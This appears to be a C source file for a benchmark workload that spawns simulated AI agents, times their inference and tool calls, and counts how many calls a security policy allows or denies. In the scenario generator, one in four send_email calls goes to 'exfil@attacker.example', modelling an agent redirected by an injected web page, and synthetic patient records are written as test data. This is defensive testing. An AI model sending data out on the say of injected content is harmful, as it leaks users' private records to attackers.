#include "workloads/toolcall/toolcall.h"

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>

#include "core/agent.h"
#include "core/util.h"
#include "workloads/trace.h"

#define MAX_ROUNDS 100000
#define REPORT_TOOL "bench.report"

/* What an agent is given (copied into its sandbox). */
struct agent_arg {
    uint32_t rounds, prompt_tokens, gen_tokens, vocab;
    uint64_t seed;
    char model[32];
    char http_base[64];
    uint32_t replay;          /* 1: events follow in the trace blob */
    uint32_t honor_timing;
    uint32_t nevents;
    uint32_t arrivals;        /* 1: blob holds one struct arrival per round */
    char blob[3800];          /* replay: packed events (see pack_events) */
};

/* One open-loop round: when it arrives and how many tokens it asks for. */
struct arrival {
    float t_ms;
    uint16_t prompt, gen;
};
#define MAX_ARRIVALS (3800 / sizeof(struct arrival))

/* What an agent reports at the end, followed by its samples (uint32 microseconds). */
struct agent_report {
    uint32_t magic;
    uint32_t calls, allowed, denied, errors, infers, infer_errors;
    uint32_t nrounds, ncalls, ninfers;
};
#define REPORT_MAGIC 0x52505431u

static uint64_t agent_now_us(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * 1000000u + (uint64_t)ts.tv_nsec / 1000u;
}

static uint64_t mix(uint64_t *x)
{
    uint64_t z = (*x += 0x9e3779b97f4a7c15ull);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

/* Scenario mode: the next tool call of round r, as MCP arguments text. */
static const char *scenario_call(const struct agent_arg *a, const char *id, uint32_t r, uint64_t *rng, char *args,
                                 size_t cap)
{
    unsigned k = (unsigned)(mix(rng) % 1000);
    switch (r % 6) {
    case 0:
        snprintf(args, cap, "{\"path\":\"record-%u\"}", k % 16);
        return "read_file";
    case 1:
        snprintf(args, cap, "{\"key\":\"%s-%u\",\"value\":%u}", id, r, k);
        return "kv_put";
    case 2:
        snprintf(args, cap, "{\"key\":\"%s-%u\"}", id, r > 0 ? r - 1 : 0);
        return "kv_get";
    case 3:
        if (a->http_base[0]) {
            snprintf(args, cap, "{\"url\":\"%s/pages/%u\"}", a->http_base, k % 50);
            return "http_get";
        }
        snprintf(args, cap, "{\"key\":\"%s-0\"}", id);
        return "kv_get";
    case 4:
        /* One in four e-mails goes where an injected page told it to: the policy must stop those
         * once the agent has read untrusted content. */
        snprintf(args, cap, "{\"to\":\"%s\",\"subject\":\"report %u\",\"body\":\"figures attached\"}",
                 k % 4 == 0 ? "exfil@attacker.example" : "ops@example.com", r);
        return "send_email";
    default:
        snprintf(args, cap, "{\"amount\":%u,\"currency\":\"EUR\",\"iban\":\"DE89370400440532013000\"}", 10 + k % 150);
        return "pay";
    }
}

/* Replay events, packed: kind (1 byte: 'i' infer, 'c' call, 's' send), t_ms (double), then
 * infer: prompt, gen (uint32 each); call: tool NUL args NUL; send: peer NUL body NUL. */
static size_t unpack_event(const char *p, size_t left, char *kind, double *t_ms, uint32_t *u1, uint32_t *u2,
                           const char **s1, const char **s2)
{
    if (left < 9)
        return 0;
    *kind = p[0];
    memcpy(t_ms, p + 1, 8);
    size_t off = 9;
    if (*kind == 'i') {
        if (left < off + 8)
            return 0;
        memcpy(u1, p + off, 4);
        memcpy(u2, p + off + 4, 4);
        return off + 8;
    }
    *s1 = p + off;
    size_t l1 = strnlen(*s1, left - off);
    if (off + l1 >= left)
        return 0;
    off += l1 + 1;
    *s2 = p + off;
    size_t l2 = strnlen(*s2, left - off);
    if (off + l2 >= left)
        return 0;
    return off + l2 + 1;
}

struct agent_state {
    struct agent_report rep;
    uint32_t *round_us, *call_us, *infer_us;
    char out[65536];
};

static int do_infer(struct omega_agent *ag, const struct agent_arg *a, struct agent_state *st, uint32_t prompt,
                    uint32_t gen, uint64_t *rng)
{
    if (!a->model[0] || gen == 0)
        return 0;
    int32_t toks[1025];
    if (prompt > 1024)
        prompt = 1024;
    for (uint32_t i = 0; i < prompt; i++)
        toks[i] = (int32_t)(mix(rng) % a->vocab);
    int32_t g = (int32_t)gen;
    memcpy(&toks[prompt], &g, 4);
    size_t outlen;
    uint64_t t0 = agent_now_us();
    int rc = omega_agent_infer(ag, a->model, toks, 4 * ((size_t)prompt + 1), st->out, sizeof st->out, &outlen);
    if (st->rep.ninfers < MAX_ROUNDS)
        st->infer_us[st->rep.ninfers++] = (uint32_t)(agent_now_us() - t0);
    st->rep.infers++;
    if (rc < 0)
        st->rep.infer_errors++;
    return rc;
}

static void do_call(struct omega_agent *ag, struct agent_state *st, const char *tool, const char *args)
{
    size_t outlen;
    uint64_t t0 = agent_now_us();
    int rc = omega_agent_call_tool(ag, tool, args, strlen(args), st->out, sizeof st->out, &outlen);
    if (st->rep.ncalls < MAX_ROUNDS)
        st->call_us[st->rep.ncalls++] = (uint32_t)(agent_now_us() - t0);
    st->rep.calls++;
    if (rc == 0)
        st->rep.allowed++;
    else if (rc == OMEGA_EDENIED)
        st->rep.denied++;
    else
        st->rep.errors++;
}

static void wait_until(uint64_t start_us, double t_ms)
{
    uint64_t due = start_us + (uint64_t)(t_ms * 1000.0);
    uint64_t now = agent_now_us();
    if (due > now) {
        struct timespec ts = {.tv_sec = (time_t)((due - now) / 1000000u), .tv_nsec = (long)((due - now) % 1000000u) * 1000};
        nanosleep(&ts, NULL);
    }
}

static int toolcall_agent(struct omega_agent *ag, const void *argp, size_t arglen)
{
    if (arglen != sizeof(struct agent_arg))
        return 2;
    const struct agent_arg *a = argp;
    static struct agent_state st;
    uint32_t cap = a->replay ? a->nevents : a->rounds;
    st.round_us = calloc(cap + 1, 4);
    st.call_us = calloc(cap + 1, 4);
    st.infer_us = calloc(cap + 1, 4);
    if (!st.round_us || !st.call_us || !st.infer_us)
        return 3;
    const char *id = omega_agent_id(ag);
    uint64_t rng = a->seed;
    for (const char *c = id; *c; c++)
        rng = rng * 131 + (unsigned char)*c;
    uint64_t start = agent_now_us();
    if (!a->replay) {
        char args[512];
        const struct arrival *arr = (const struct arrival *)(const void *)a->blob;
        for (uint32_t r = 0; r < a->rounds; r++) {
            uint64_t t0 = agent_now_us();
            uint32_t prompt = a->prompt_tokens, gen = a->gen_tokens;
            if (a->arrivals) {
                /* Open loop: a round starts at its arrival, and its latency counts from then, late or not. */
                wait_until(start, arr[r].t_ms);
                t0 = start + (uint64_t)((double)arr[r].t_ms * 1000.0);
                prompt = arr[r].prompt;
                gen = arr[r].gen;
            }
            do_infer(ag, a, &st, prompt, gen, &rng);
            const char *tool = scenario_call(a, id, r, &rng, args, sizeof args);
            do_call(ag, &st, tool, args);
            st.round_us[st.rep.nrounds++] = (uint32_t)(agent_now_us() - t0);
        }
    } else {
        size_t off = 0;
        for (uint32_t e = 0; e < a->nevents; e++) {
            char kind;
            double t_ms;
            uint32_t u1 = 0, u2 = 0;
            const char *s1 = NULL, *s2 = NULL;
            size_t used = unpack_event(a->blob + off, sizeof a->blob - off, &kind, &t_ms, &u1, &u2, &s1, &s2);
            if (!used)
                return 4;
            off += used;
            if (a->honor_timing)
                wait_until(start, t_ms);
            uint64_t t0 = agent_now_us();
            if (kind == 'i')
                do_infer(ag, a, &st, u1, u2, &rng);
            else if (kind == 'c')
                do_call(ag, &st, s1, s2);
            else if (kind == 's' && omega_agent_send(ag, s1, s2, strlen(s2)) < 0)
                st.rep.errors++;
            st.round_us[st.rep.nrounds++] = (uint32_t)(agent_now_us() - t0);
        }
    }
    /* Report: the header and the samples, through the workload's own tool. */
    st.rep.magic = REPORT_MAGIC;
    size_t n = sizeof st.rep + 4 * ((size_t)st.rep.nrounds + st.rep.ncalls + st.rep.ninfers);
    uint8_t *buf = malloc(n);
    if (!buf)
        return 3;
    memcpy(buf, &st.rep, sizeof st.rep);
    uint8_t *p = buf + sizeof st.rep;
    memcpy(p, st.round_us, 4 * (size_t)st.rep.nrounds);
    p += 4 * (size_t)st.rep.nrounds;
    memcpy(p, st.call_us, 4 * (size_t)st.rep.ncalls);
    p += 4 * (size_t)st.rep.ncalls;
    memcpy(p, st.infer_us, 4 * (size_t)st.rep.ninfers);
    size_t outlen;
    int rc = omega_agent_call_tool(ag, REPORT_TOOL, buf, n, st.out, sizeof st.out, &outlen);
    return rc == 0 ? 0 : 5;
}

/* The report tool: not JSON, so the runtime sees no arguments; it appends the samples. */
struct collect {
    struct omega_toolcall_stats *st;
    int reports;
};

static int append_samples(double **arr, size_t *n, const uint32_t *src, uint32_t k)
{
    double *a = realloc(*arr, (*n + k + 1) * sizeof *a);
    if (!a)
        return OMEGA_ENOMEM;
    for (uint32_t i = 0; i < k; i++)
        a[*n + i] = src[i];
    *arr = a;
    *n += k;
    return 0;
}

static int report_handler(void *ctx, const struct omega_request *rq, struct omega_reply *rp)
{
    (void)rp;
    struct collect *c = ctx;
    struct agent_report r;
    if (rq->len < sizeof r)
        return OMEGA_EINVAL;
    memcpy(&r, rq->payload, sizeof r);
    uint64_t need = sizeof r + 4ull * ((uint64_t)r.nrounds + r.ncalls + r.ninfers);
    if (r.magic != REPORT_MAGIC || need != rq->len)
        return OMEGA_EINVAL;  /* a hostile or broken agent's report is refused, not trusted */
    const uint32_t *s = (const uint32_t *)(const void *)(rq->payload + sizeof r);
    uint32_t *copy = malloc(need - sizeof r + 4);
    if (!copy)
        return OMEGA_ENOMEM;
    memcpy(copy, s, need - sizeof r);
    int rc = append_samples(&c->st->round_us, &c->st->nrounds, copy, r.nrounds);
    if (rc == 0)
        rc = append_samples(&c->st->call_us, &c->st->ncalls, copy + r.nrounds, r.ncalls);
    if (rc == 0)
        rc = append_samples(&c->st->infer_us, &c->st->ninfers, copy + r.nrounds + r.ncalls, r.ninfers);
    free(copy);
    c->st->calls += r.calls;
    c->st->allowed += r.allowed;
    c->st->denied += r.denied;
    c->st->errors += r.errors;
    c->st->infers += r.infers;
    c->st->infer_errors += r.infer_errors;
    c->reports++;
    return rc;
}

/* Pack one agent's replay events into its argument blob; OMEGA_EQUOTA when they do not fit. */
static int pack_events(const struct omega_trace *t, const char *agent, struct agent_arg *a, struct omega_error *err)
{
    size_t off = 0;
    a->nevents = 0;
    for (size_t i = 0; i < t->n; i++) {
        const struct omega_trace_event *ev = &t->ev[i];
        if (strcmp(ev->agent, agent) != 0 || ev->kind == OMEGA_TRACE_RESULT)
            continue;
        char tmp[2048];
        size_t n = 0;
        tmp[0] = ev->kind == OMEGA_TRACE_INFER ? 'i' : ev->kind == OMEGA_TRACE_CALL ? 'c' : 's';
        memcpy(tmp + 1, &ev->t_ms, 8);
        n = 9;
        if (ev->kind == OMEGA_TRACE_INFER) {
            memcpy(tmp + n, &ev->prompt_tokens, 4);
            memcpy(tmp + n + 4, &ev->gen_tokens, 4);
            n += 8;
        } else {
            const char *s1;
            char *s2;
            if (ev->kind == OMEGA_TRACE_CALL) {
                json_t *params = json_object_get(ev->msg, "params");
                s1 = json_string_value(json_object_get(params, "name"));
                json_t *args = json_object_get(params, "arguments");
                s2 = args ? json_dumps(args, JSON_COMPACT) : strdup("{}");
                if (!s1 || strcmp(json_string_value(json_object_get(ev->msg, "method")), "tools/call") != 0) {
                    free(s2);
                    OMEGA_FAIL(err, OMEGA_EINVAL, "trace line %u: only tools/call requests replay", ev->line);
                }
            } else {
                s1 = ev->to;
                s2 = json_dumps(ev->msg, JSON_COMPACT);
            }
            size_t l1 = strlen(s1), l2 = s2 ? strlen(s2) : 0;
            if (!s2 || n + l1 + l2 + 2 > sizeof tmp) {
                free(s2);
                OMEGA_FAIL(err, OMEGA_EQUOTA, "trace line %u: event too large to replay", ev->line);
            }
            memcpy(tmp + n, s1, l1 + 1);
            memcpy(tmp + n + l1 + 1, s2, l2 + 1);
            n += l1 + l2 + 2;
            free(s2);
        }
        if (off + n > sizeof a->blob)
            OMEGA_FAIL(err, OMEGA_EQUOTA, "agent %s: its trace is longer than one replay holds (%zu bytes)", agent,
                       sizeof a->blob);
        memcpy(a->blob + off, tmp, n);
        off += n;
        a->nevents++;
    }
    return 0;
}

int omega_toolcall_run(struct omega_stack *s, const struct omega_toolcall_config *cfg, struct omega_toolcall_stats *st,
                       struct omega_error *err)
{
    memset(st, 0, sizeof *st);
    if (cfg->agents < 1 || cfg->agents > 1000 || cfg->rounds < 0 || cfg->rounds > MAX_ROUNDS)
        OMEGA_FAIL(err, OMEGA_EINVAL, "toolcall: 1 to 1000 agents and 0 to %d rounds", MAX_ROUNDS);
    struct omega_runtime *rt = omega_stack_runtime(s);
    struct collect c = {.st = st};
    OMEGA_TRY(omega_runtime_register_tool(rt, REPORT_TOOL, report_handler, &c));
    struct omega_trace trace = {0};
    if (cfg->trace)
        OMEGA_TRY(omega_trace_read(&trace, cfg->trace, err));
    struct agent_arg *a = calloc(1, sizeof *a);
    int *idx = calloc((size_t)cfg->agents, sizeof *idx);
    if (!a || !idx) {
        free(a);
        free(idx);
        omega_trace_fini(&trace);
        OMEGA_FAIL(err, OMEGA_ENOMEM, "out of memory");
    }
    a->rounds = (uint32_t)cfg->rounds;
    a->prompt_tokens = (uint32_t)cfg->prompt_tokens;
    a->gen_tokens = (uint32_t)cfg->gen_tokens;
    a->seed = cfg->seed;
    a->replay = cfg->trace != NULL;
    a->honor_timing = (uint32_t)cfg->honor_timing;
    const char *model = omega_stack_model(s, &a->vocab);
    if (model && cfg->gen_tokens >= 0)
        snprintf(a->model, sizeof a->model, "%s", model);
    if (omega_stack_http_base(s))
        snprintf(a->http_base, sizeof a->http_base, "%s", omega_stack_http_base(s));
    struct omega_azure_trace az = {0};
    if (cfg->arrivals) {
        if (cfg->trace || cfg->rate_per_agent <= 0 || (size_t)cfg->rounds > MAX_ARRIVALS) {
            free(a);
            free(idx);
            omega_trace_fini(&trace);
            OMEGA_FAIL(err, OMEGA_EINVAL, "arrivals: a rate above 0, at most %zu rounds, and no --trace", MAX_ARRIVALS);
        }
        if (cfg->arrivals == 2) {
            char path[1024];
            snprintf(path, sizeof path, "%s/workloads/traces/AzureLLMInferenceTrace_conv.csv", OMEGA_SRCDIR);
            int arc = omega_azure_read(&az, cfg->azure_trace ? cfg->azure_trace : path, err);
            if (arc < 0 || az.n == 0) {
                free(a);
                free(idx);
                omega_trace_fini(&trace);
                omega_azure_fini(&az);
                return arc < 0 ? arc : omega_error_set(err, OMEGA_EINVAL, __FILE__, __LINE__, "empty Azure trace");
            }
        }
        a->arrivals = 1;
    }
    int ctx = omega_stack_max_context(s);
    int rc = 0, spawned = 0;
    for (int i = 0; i < cfg->agents && rc == 0; i++) {
        char id[32];
        snprintf(id, sizeof id, "a%d", i + 1);
        if (a->arrivals) {
            /* Poisson arrivals per agent; token counts as asked, or drawn from the Azure trace and
             * scaled into the model's context (a tiny model cannot take a 2,000-token prompt). */
            struct omega_rng rng;
            omega_rng_seed(&rng, cfg->seed * 1000003u + (uint64_t)i);
            double t = 0;
            struct arrival *arr = (struct arrival *)(void *)a->blob;
            for (int r = 0; r < cfg->rounds; r++) {
                t += omega_rng_exp(&rng, cfg->rate_per_agent);
                arr[r].t_ms = (float)(t * 1000.0);
                uint32_t p = (uint32_t)cfg->prompt_tokens, g = (uint32_t)cfg->gen_tokens;
                if (az.n) {
                    const struct omega_azure_req *q = &az.req[omega_rng_next(&rng) % az.n];
                    p = q->ctx_tokens ? q->ctx_tokens : 1;
                    g = q->gen_tokens ? q->gen_tokens : 1;
                    if (ctx > 0 && p + g > (uint32_t)ctx) {   /* keep the prompt : answer proportion */
                        double k = (double)ctx / (double)(p + g);
                        p = (uint32_t)(p * k) ? (uint32_t)(p * k) : 1;
                        g = (uint32_t)ctx - p > 0 ? (uint32_t)ctx - p : 1;
                        if (p + g > (uint32_t)ctx)
                            p = (uint32_t)ctx - g;
                    }
                }
                arr[r].prompt = (uint16_t)(p > 1024 ? 1024 : p);
                arr[r].gen = (uint16_t)(g > 512 ? 512 : g);
            }
        }
        if (a->replay)
            rc = pack_events(&trace, id, a, err);
        if (rc == 0) {
            rc = omega_runtime_spawn(rt, id, toolcall_agent, a, sizeof *a, err);
            if (rc >= 0) {
                idx[spawned++] = rc;
                rc = 0;
            }
        }
    }
    for (int i = 0; i < spawned; i++) {
        struct omega_agent_status as;
        if (omega_runtime_wait(rt, idx[i], 600000, &as) < 0 || as.violation || as.signal || as.exit_code != 0) {
            st->agents_failed++;
            if (!st->failure[0])
                snprintf(st->failure, sizeof st->failure, "%.60s: %.180s", as.id,
                         as.reason[0] ? as.reason : "exited with an error");
        }
    }
    if (rc == 0 && c.reports != spawned)
        st->agents_failed += spawned - c.reports > st->agents_failed ? spawned - c.reports - st->agents_failed : 0;
    free(a);
    free(idx);
    omega_trace_fini(&trace);
    omega_azure_fini(&az);
    return rc;
}

void omega_toolcall_stats_fini(struct omega_toolcall_stats *st)
{
    free(st->round_us);
    free(st->call_us);
    free(st->infer_us);
    memset(st, 0, sizeof *st);
}

int omega_toolcall_make_data(const char *dir, int records, struct omega_error *err)
{
    if (mkdir(dir, 0755) < 0 && errno != EEXIST)
        OMEGA_FAIL(err, OMEGA_EIO, "%s: %s", dir, strerror(errno));
    for (int i = 0; i < records; i++) {
        char path[1024], text[256];
        snprintf(path, sizeof path, "%s/record-%d", dir, i);
        int n = snprintf(text, sizeof text, "patient %d: blood pressure %d/%d, next visit in %d days\n", i,
                         110 + i % 30, 70 + i % 15, 7 + i % 21);
        struct omega_buf b = {.data = (uint8_t *)text, .len = (size_t)n};
        OMEGA_TRY(omega_buf_write_file(&b, path, err));
        snprintf(path, sizeof path, "%s/record-%d.labels.json", dir, i);
        n = snprintf(text, sizeof text, "{\"integrity\":\"trusted\",\"classes\":[\"%s\"],\"regions\":[\"%s\"]}",
                     i % 2 ? "PHI" : "PII", i % 3 ? "EU" : "US");
        b.data = (uint8_t *)text;
        b.len = (size_t)n;
        OMEGA_TRY(omega_buf_write_file(&b, path, err));
    }
    return 0;
}
